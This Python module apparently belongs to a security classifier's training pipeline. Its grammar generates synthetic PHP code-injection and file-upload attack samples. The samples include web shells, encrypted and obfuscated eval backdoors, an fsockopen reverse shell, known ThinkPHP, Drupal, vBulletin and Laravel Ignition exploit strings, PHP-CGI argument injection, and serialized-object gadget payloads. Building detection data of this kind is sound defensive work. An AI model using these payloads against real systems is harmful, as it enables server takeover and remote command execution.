"""Code injection for PHP: calls, shells, object injection, framework forms."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.kinds import COOKIE, FILE, HEADER, NAME, VALUE, AttackKind
from securitai.verdict import Category

_UCMD = PARTS.maker("ucmd")
_CLASSES = (
    "GuzzleHttp\\Psr7\\FnStream", "Monolog\\Handler\\SyslogUdpHandler", "SimpleXMLElement",
    "Illuminate\\Broadcasting\\PendingBroadcast", "JDatabaseDriverMysqli", "Smarty_Internal_Template",
    "think\\process\\pipes\\Windows", "yii\\db\\BatchQueryResult", "Swift_KeyCache_DiskKeyCache",
    "WP_Theme", "Requests_Utility_FilteredIterator", "SoapClient", "Zend_Log", "PHPObjectInjection",
    "Typecho_Feed", "Example1", "User", "Logger", "Phar", "DateTime", "vB_vURL", "Config",
)  # fmt: skip


def serialized(rng: Random) -> str:
    """A serialised PHP object with properties, as ``unserialize`` takes it."""
    depth = 1 if rng.random() < 0.7 else 2
    return _object(rng, depth)


def _object(rng: Random, depth: int) -> str:
    name = _CLASSES[int(rng.random() * len(_CLASSES))] if rng.random() < 0.7 else _name(rng)
    count = int(rng.random() * 4)
    fields = []
    for _ in range(count):
        field = _name(rng)
        if rng.random() < 0.3:
            field = f"\0*\0{field}" if rng.random() < 0.5 else f"\0{name}\0{field}"
        fields.append(f's:{len(field)}:"{field}";{_value(rng, depth)}')
    return (
        f'O:{"+" if rng.random() < 0.08 else ""}{len(name)}:"{name}":{count}:{{{"".join(fields)}}}'
    )


def _name(rng: Random) -> str:
    return draw(rng, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_", 2, 14)


def _value(rng: Random, depth: int) -> str:
    form = int(rng.random() * 6)
    if form == 0 and depth > 1:
        return _object(rng, depth - 1)
    if form == 1:
        return f"i:{int(rng.random() * 100)};"
    if form == 2:
        return f"b:{int(rng.random() * 2)};"
    if form == 3:
        return f"a:1:{{i:0;{_string(rng)}}}"
    return _string(rng)


def _string(rng: Random) -> str:
    text = (
        _UCMD(rng),
        "/var/www/html/" + _name(rng) + ".php",
        "<?php system($_GET['" + _name(rng)[:2] + "']); ?>",
        ("system", "assert", "eval", "phpinfo", "passthru", "call_user_func", "exec")[
            int(rng.random() * 7)
        ],
        _name(rng),
    )[int(rng.random() * 5)]
    return f's:{len(text)}:"{text}";'


def serialized64(rng: Random) -> str:
    """The same in base64."""
    return b64encode(serialized(rng).encode()).decode()


def code64(rng: Random) -> str:
    """A PHP call in base64."""
    call = ("system('%s');", "echo `%s`;", 'shell_exec("%s");', "@eval($_POST['%s']);")[
        int(rng.random() * 4)
    ] % _UCMD(rng)
    return b64encode(call.encode()).decode()


_G = Grammar(
    r"""
sup = $_GET¦$_POST¦$_REQUEST¦$_COOKIE¦$_SERVER¦$_FILES¦$GLOBALS¦$HTTP_RAW_POST_DATA
param:
  ‹sup›['‹az›']
  ‹sup›[‹az›]
  ‹sup›["cmd"]
  ‹sup›[‹d1›]
  ‹sup›{'‹az›'}
  $_SERVER['HTTP_‹AZ6›']
  file_get_contents('php://input')
  getallheaders()['‹az›']
  base64_decode(‹sup›['‹az›'])
  "‹ucmd›"
  '‹ucmd›'
  '‹ucmd›'
fn = system¦exec¦shell_exec¦passthru¦eval¦assert¦popen¦proc_open¦pcntl_exec¦phpinfo¦print¦echo¦die¦var_dump¦include¦require¦file_get_contents¦readfile¦show_source¦highlight_file¦unlink¦call_user_func¦create_function¦array_map¦base64_decode¦str_rot13¦gzinflate¦preg_replace¦usleep¦sleep¦file_put_contents¦fopen¦move_uploaded_file¦mail¦putenv¦dl¦ini_set¦set_time_limit¦scandir¦glob¦chmod
call:
  6×‹fn›(‹param›)
  3×system('‹ucmd›')
  3×phpinfo()
  2×eval(‹param›)
  2×@eval(‹param›)
  eval(base64_decode('‹code64›'))
  eval(gzinflate(base64_decode('‹b64›')))
  eval(str_rot13('‹az›'))
  assert(‹param›)
  print(`‹ucmd›`)
  echo `‹ucmd›`
  print(md5(‹n›))
  echo md5('‹az›')
  var_dump(md5(‹n›))
  printf(‹#100-9999›*‹#100-9999›)
  print(‹#100000-99999999›+‹#100000-99999999›)
  die(md5(‹n›))
  file_put_contents('‹rnd›.php','<?php ‹fn›(‹param›);?>')
  file_put_contents('‹rnd›.php',base64_decode('‹b64›'))
  file_get_contents('‹u_file›')
  include('‹url›')
  include '‹u_file›'
  readfile('‹u_file›')
  call_user_func('‹fn›','‹ucmd›')
  call_user_func_array('‹fn›',array('‹ucmd›'))
  array_map('‹fn›',array(‹param›))
  array_filter([‹param›],'assert')
  usort(...$_GET)
  create_function('','}‹fn›(‹param›);//')
  preg_replace('/‹az›/e','‹fn›(‹param›)','‹az›')
  ('sys'.'tem')('‹ucmd0›')
  (sy.(st).em)(whoami)
  "\x73\x79\x73\x74\x65\x6d"('‹ucmd0›')
  $‹x=az›='sys'.'tem';$‹$x›('‹ucmd0›')
  $_=‹sup›;$_[0]($_[1])
  ${"_GE"."T"}[‹c›](${"_GE"."T"}[‹c›])
  $‹c›=strrev('metsys');$‹c›(‹param›)
  $_a=(! 'a')."php";$_a.=(! 'a')."info";$_a(1)
  @‹fn›(‹param›)
  (new SplFileObject('‹u_file›'))->fpassthru()
  (new ReflectionFunction('system'))->invoke('‹ucmd0›')
  ob_start('‹fn›');echo '‹ucmd0›';ob_end_flush()
  array_diff_ukey(@array(‹param›=>1),@array(‹c›=>2),'‹fn›')
  ($_=@‹param›).@$_(‹param›)
  readfile(glob('/*')[0])
  print_r(scandir('/'))
  highlight_file(next(array_reverse(scandir(pos(localeconv())))))
  (~‹b64›)()
  unserialize('‹obj›')
  unserialize(‹param›)
  fwrite(fopen('‹rnd›.php','w'),‹param›)
  error_log('‹az›',3,'/var/www/html/‹rnd›.php')
  sleep(‹#1-30›)
  require_once('../../../../wp-config.php')
  $f=create_function('$a',‹param›);$f()
  set_error_handler('‹fn›')
  register_shutdown_function('‹fn›','‹ucmd0›')
tagged:
  <?php ‹call›; ?>
  <?php ‹call›;
  <?php @‹call›;?>
  <?=‹call›?>
  <?= `‹ucmd0›` ?>
  <? ‹call› ?>
  <?‹call›;
  <%= ‹call› %>
  <script language="php">‹call›;</script>
  <?php echo '‹rnd›'; ‹call›;unlink(__FILE__);?>
  <?php if(isset(‹param›)){‹call›;} ?>
  <?php ‹call›; die(); ?>
  <?php‹nl›‹call›;‹nl›?>
  <?php /*‹az›*/‹call›/*‹az›*/;?>
  <?PHP ‹call› ?>
  &lt;?php ‹call›; ?&gt;
  %3C%3Fphp%20‹call›%3B%3F%3E
  <? echo('<scr');‹call›;?>
  <?php ‹nl›$‹x=az› = "‹split_fn›";‹nl›$‹$x›(‹param›);‹nl›?>
  <?php error_reporting(0);‹call›;
  <?php set_time_limit(0);$s=fsockopen('‹host›',‹port›);while(!feof($s)){fputs($s,shell_exec(fgets($s)));}
  ‹az›<?php ‹call›; ?>
split_fn = sys"."tem¦ass"."ert¦e"."val¦shell"."_exec¦pass"."thru¦s\x79stem
injected:
  3×;‹call›;
  2×;‹call›;//
  3×';‹call›;//
  3×";‹call›;//
  2×');‹call›;//
  2×");‹call›;//
  2×'.‹call›.'
  2×".‹call›."
  2×${‹call›}
  2×{${‹call›}}
  ${@‹call›}
  {${‹call›}}{${exit()}}
  ${eval(‹param›)}
  ‹pre›;‹call›
  ‹pre›);‹call›;//
  ‹pre›]);‹call›;//
  ‹pre›}‹call›;//
  ‹pre›'];‹call›;//
  '.@‹call›.'
  1;‹call›
  1.‹call›
  ‹call›
  ‹call›;
  a=Factory();‹call›;//../
  @‹call›
  -‹call›-
  ".`‹ucmd0›`."
  {if:1)‹call›;if(1}{end if}
  }{end if}{if:1)‹call›;if(1}{end if}
  {if ‹call›}{/if}
  {php}‹call›;{/php}
  {pbohome/Indexot:if(‹call›)}{/pbohome/Indexot:if}
  {{if:‹call›}}
  a(){}‹call›;function v
  ");}‹call›;/*
  ‹pre›"; ‹call›; $‹az›="
  \\"; ‹call›; //
  ‹pre›';}‹call›;{'
  1)){}}‹call›;//
  ‹call›/*
  array(1);‹call›
  ‹nl›‹call›;‹nl›
  ${‹fn›(‹ucmd0›)}
  {$‹call›}
  { if (true) $_a = "" . str_replace('!','','s!y!s!t!e!m!');‹nl›$_a( "‹ucmd0›"); } //
  " ; //‹nl›if (!0) $_a = base64_decode;‹nl›$_c = "" . strrev("ftnirp");‹nl›$_c(`$_a`);//
framework:
  ‹idx›/\think\app/invokefunction&function=call_user_func_array&vars[0]=‹fn›&vars[1][]=‹ucmd›
  ‹idx›/\think\Request/input&filter[]=‹fn›&data=‹ucmd›
  ‹idx›/\think\template\driver\file/write&cacheFile=‹rnd›.php&content=<?php ‹call›?>
  ‹idx›/\think\Container/invokefunction&function=call_user_func&vars[0]=‹fn›&vars[1]=‹ucmd0›
  _method=__construct&filter[]=‹fn›&method=get&server[REQUEST_METHOD]=‹ucmd›
  _method=__construct&method=get&filter[]=call_user_func&get[]=phpinfo
  index/think\config/get&name=database.password
  module/action/param1/${@‹call›}
  -d allow_url_include=1 -d auto_prepend_file=php://input
  -d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input
  --define+allow_url_include%3dtrue+--define+auto_prepend_file%3dphp://input
  %ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
  widgetConfig[code]=‹call›
  {"id":"‹az›","widgetConfig[code]":"‹call›;exit;"}
  <?xml version="1.0"?><methodCall><methodName>‹az›.‹az›','')); ‹call›; exit;/*</methodName></methodCall>
  test.method','')); ‹call›; exit;/*
  {"solution":"Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution","parameters":{"variableName":"‹az›","viewFile":"phar://‹az›.log/‹az›.txt"}}
  O:8:"stdClass":0:{}
  mail[#post_render][]=‹fn›&mail[#type]=markup&mail[#markup]=‹ucmd›
  name[#post_render][]=passthru&name[#type]=markup&name[#markup]=‹ucmd0›
  {"#lazy_builder":["‹fn›",["‹ucmd0›"]]}
  routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('‹ucmd›'); exit;
  submit=1&‹az›=<?php ‹call›?>&file=../../‹rnd›.php
  a=fetch&templateFile=public/index&prefix=''&content=<php>‹call›</php>
  a=display&templateFile=/var/log/‹az›.log
  <php>‹call›</php>
  searchword={if{searchpage:year}&year=:e{searchpage:area}}&area=v{searchpage:letter}
  doAdd=‹az›&file=data:;base64,‹code64›
  {"action":"as/../../../../../../../../../../../../../../usr/local/lib/php/pearcmd.php?+config-create+/&/<?=@‹call›;die()?>+/tmp/‹rnd›.php"}
  eval=call_user_func&args[]=‹fn›
  assets/php/‹az›.php?x=‹fn›&y=‹ucmd›
  <!--{eval ‹call›}-->
  {loop ‹call›}
  {~‹call›}
  #{php}‹call›#{/php}
idx = index¦s=index¦index/index¦Index¦captcha¦s=/Index¦admin
object:
  6×‹obj›
  2×‹obj64›
  ‹az›|‹obj›
  }__test|‹obj›
  a:1:{i:0;‹obj›}
  a:2:{i:7;‹obj›i:7;i:7;}
  ‹pre›";s:3:"‹az›";‹obj›
  C:11:"ArrayObject":37:{x:i:0;a:0:{};m:a:0:{}}
  x:i:0;‹obj›;m:a:0:{}
  \0\0\0";s:3:"‹az›";‹obj›
  C:‹#10-40›:"‹az›":‹#10-40›:{‹az›}
  phar://uploads/‹rnd›.jpg
shell:
  <?php ‹nl›$‹x=az› = ‹param›;‹nl›‹fn›($‹$x›);‹nl›?>
  <?php if(md5(‹param›)=='‹hexrun›'){@eval(‹param›);} ?>
  <?php $‹x=az›="‹b64›";eval(base64_decode($‹$x›));?>
  <?php‹nl›@error_reporting(0);session_start();$key="‹hexrun›";$_SESSION['k']=$key;$post=file_get_contents("php://input");$post=openssl_decrypt($post,"AES128",$key);@eval($post);‹nl›?>
  <?php class C{public function __invoke($p){eval($p."");}}@call_user_func(new C(),‹param›);?>
  <?php @$_="s"."s"./*-/*-*/"e"."r"./*-/*-*/"t";@$_=/*-/*-*/"a".$_;@$_(‹param›);?>
  <?php $a=chr(‹#65-122›).chr(‹#65-122›).chr(‹#65-122›);$a(‹param›);?>
  <?php $‹x=az›=array_map('chr',array(‹#65-122›,‹#65-122›,‹#65-122›,‹#65-122›));implode($‹$x›)(‹param›);?>
  <?php‹nl›if(isset(‹param›)){‹nl›  echo "<pre>";‹nl›  $cmd = (‹param›);‹nl›  system($cmd);‹nl›  echo "</pre>";‹nl›  die;‹nl›}‹nl›?>
  <form method=post><input name=‹x=az›><input type=submit></form><?php echo shell_exec($_POST['‹$x›']);?>
  <?php move_uploaded_file($_FILES['‹az›']['tmp_name'],$_FILES['‹az›']['name']);?>
  <?php copy($_FILES['‹az›']['tmp_name'],'‹rnd›.php');?>
  <?php $x=~‹az›;$x(‹param›);?>
  <?php $p=popen(‹param›,'r');while(!feof($p))echo fread($p,1024);?>
  <?php foreach(array('sys','tem') as $‹x=c›)$f.=$‹$x›;$f(‹param›);
  <?php @extract($_REQUEST);@die($‹c›($‹c›));?>
  <?php $f='cre'.'ate_'.'function';$f('',‹param›);?>
  <?php eval("?>".file_get_contents('‹url›'));?>
  <?php ‹nl›/**‹nl› * ‹word› ‹word›‹nl› */‹nl›‹call›;‹nl›echo "<h1>‹word›</h1>";‹nl›?>
  GIF89a;‹nl›‹tagged›
  GIF89a<?php ‹call›; ?>
  ‹tagged›
""",
    PARTS,
    {"obj": serialized, "obj64": serialized64, "code64": code64},
)
PHP_SHELL = _G.maker("shell")
PHP_TAG = _G.maker("tagged")

_SOME = (VALUE, COOKIE, HEADER)
KINDS = (
    AttackKind("code.php_tag", Category.CODE_INJECTION, PHP_TAG, 3.0, (*_SOME, FILE)),
    AttackKind("code.php_call", Category.CODE_INJECTION, _G.maker("injected"), 4.0, (*_SOME, NAME)),
    AttackKind("code.php_framework", Category.CODE_INJECTION, _G.maker("framework"), 2.0),
    AttackKind("code.php_object", Category.CODE_INJECTION, _G.maker("object"), 3.0, _SOME),
    AttackKind("upload.php_shell", Category.FILE_UPLOAD, PHP_SHELL, 4.0, (FILE,)),
)
